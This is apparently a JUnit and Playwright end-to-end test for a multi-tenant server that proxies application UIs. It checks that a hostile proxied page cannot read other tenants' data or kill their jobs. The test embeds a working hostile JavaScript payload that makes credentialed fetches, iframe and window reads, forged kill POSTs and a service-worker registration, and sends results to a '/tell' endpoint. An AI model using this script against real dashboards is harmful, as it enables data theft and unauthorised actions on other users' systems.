package io.cellwatch.e2e.home;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.cellwatch.e2e.parts.Chromium;
import io.cellwatch.server.configuration.ConfigurationReader;
import io.cellwatch.server.wiring.CellwatchServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.time.Clock;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * On a server for several people somebody looks, logged in, at the UI of a driver whose page is
 * hostile: it tries what a script can to read, launch and kill.
 */
class HostileUiInChromiumTest {
  private static final String TOKEN = "owner-0123456789abcdef";
  private static final String SECRET = "the secret of the victim";

  private final List<String> atTheVictim = Collections.synchronizedList(new ArrayList<>());
  private final List<String> stolen = Collections.synchronizedList(new ArrayList<>());
  private HttpServer hostile;
  private HttpServer victim;
  private CellwatchServer server;
  private Chromium chromium;

  @BeforeEach
  void start() throws Exception {
    hostile = driver("app-hostile", this::hostilePage);
    victim =
        driver(
            "app-victim",
            exchange -> {
              atTheVictim.add(exchange.getRequestURI().toString());
              return "<h1>" + SECRET + "</h1>";
            });
    server =
        CellwatchServer.start(
            ConfigurationReader.read(
                Map.of(),
                Map.of(),
                Map.of(
                    "CELLWATCH_TOKEN",
                    TOKEN,
                    "CELLWATCH_PORT",
                    "0",
                    "CELLWATCH_PROXY_KILL",
                    "true"),
                Optional.empty()),
            Clock.systemUTC());
    report("app-hostile", hostile);
    report("app-victim", victim);
    chromium = Chromium.launch();
  }

  @AfterEach
  void stop() {
    chromium.close();
    server.close();
    hostile.stop(0);
    victim.stop(0);
  }

  /** What a page is made of. */
  @FunctionalInterface
  private interface PageOf {
    String of(HttpExchange exchange) throws IOException;
  }

  private static HttpServer driver(String id, PageOf page) throws IOException {
    HttpServer driver =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    driver.createContext(
        "/",
        exchange -> {
          boolean check = exchange.getRequestURI().getPath().equals("/api/v1/applications");
          byte[] body = (check ? "[{\"id\":\"" + id + "\"}]" : page.of(exchange)).getBytes(UTF_8);
          exchange
              .getResponseHeaders()
              .set("Content-Type", check ? "application/json" : "text/html");
          exchange.sendResponseHeaders(200, body.length);
          exchange.getResponseBody().write(body);
          exchange.close();
        });
    driver.start();
    return driver;
  }

  private void report(String id, HttpServer driver) throws Exception {
    String update =
        """
        {"version":1,"sequence":1,"full":true,"sentMillis":%d,"application":{"applicationId":"%s","name":"%s",
        "uiUrl":"http://127.0.0.1:%d","state":"RUNNING","startMillis":1}}"""
            .formatted(System.currentTimeMillis(), id, id, driver.getAddress().getPort());
    int status =
        HttpClient.newHttpClient()
            .send(
                HttpRequest.newBuilder(URI.create(server.url() + "/v1/drivers/of-" + id))
                    .header("Authorization", "Bearer " + TOKEN)
                    .header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString(update))
                    .build(),
                BodyHandlers.discarding())
            .statusCode();
    assertEquals(2, status / 100);
  }

  /** It has no policy of its own, and tells its own server what it got hold of. */
  private String hostilePage(HttpExchange exchange) throws IOException {
    String query = exchange.getRequestURI().getQuery();
    if (exchange.getRequestURI().getPath().equals("/tell")) {
      stolen.add(query);
      return "";
    }
    return """
        <html><body><h1>hostile</h1><form id="kill" method="post" target="gone"></form><iframe name="gone"></iframe>
        <script>
        const main = %s, victim = '/proxy/app-victim/';
        const tell = (how, what) => fetch('/proxy/app-hostile/tell?' + how + '=' + encodeURIComponent(what));
        const read = async (how, address, options) => {
          try {
            const text = await (await fetch(address, options)).text();
            await tell(how, text.slice(0, 200));
          } catch (refused) { }
        };
        const frame = (address) => new Promise(done => {
          const made = document.createElement('iframe');
          made.onload = async () => {
            try { await tell('frame', made.contentDocument.body.innerHTML.slice(0, 200)); } catch (refused) { }
            done();
          };
          made.src = address;
          document.body.append(made);
          setTimeout(done, 2000);
        });
        (async () => {
          await read('api', main + '/v1/applications', {credentials: 'include'});
          await read('page', main + '/', {credentials: 'include'});
          await read('report', main + '/v1/drivers/of-nobody', {credentials: 'include', method: 'POST', body: '{}'});
          await read('victim', victim + 'jobs/');
          await read('kill', victim + 'jobs/job/kill/?id=1', {method: 'POST'});
          await frame(victim + 'jobs/');
          await frame(main + '/');
          try { const other = window.open(victim + 'jobs/'); await new Promise(r => setTimeout(r, 1000));
            await tell('window', other.document.body.innerHTML.slice(0, 200)); } catch (refused) { }
          try { await navigator.serviceWorker.register('/proxy/app-hostile/worker.js'); await tell('worker', 'installed'); }
          catch (refused) { }
          const form = document.getElementById('kill');
          form.action = victim + 'jobs/job/kill/?id=2';
          form.submit();
          history.replaceState(null, '', victim + 'jobs/');
          await read('replaced', victim + 'jobs/');
          await new Promise(r => setTimeout(r, 500));
          await tell('done', 'yes');
          // Where it may send whoever looks at it, which no policy forbids.
          location.href = victim + 'jobs/job/kill/?id=3';
        })();
        </script></body></html>"""
        .formatted("'" + server.url() + "'");
  }

  @Test
  void aHostileUiReadsLaunchesAndKillsNothing() {
    BrowserContext context = chromium.browser().newContext();
    Page page = context.newPage();
    page.navigate(server.url() + "/?token=" + TOKEN);
    page.navigate(server.url() + "/proxy/app-hostile/jobs/");
    assertTrue(page.url().contains(":" + server.uiPort() + "/"), page.url());
    page.waitForURL(
        url -> url.endsWith("kill/?id=3"), new Page.WaitForURLOptions().setTimeout(60_000));
    page.locator("h1:has-text('Kill job 3?')").waitFor();

    assertEquals(List.of("done=yes"), stolen);
    assertEquals(List.of(), atTheVictim);
    page.locator("button").click();
    page.locator("h1:has-text('" + SECRET + "')").waitFor();
    assertEquals(List.of("/jobs/job/kill/?id=3"), atTheVictim, "whoever means it, may");

    page.navigate(server.url() + "/proxy/app-victim/jobs/");
    assertEquals(SECRET, page.locator("h1").textContent(), "whoever may, sees it");
    context.close();
  }
}
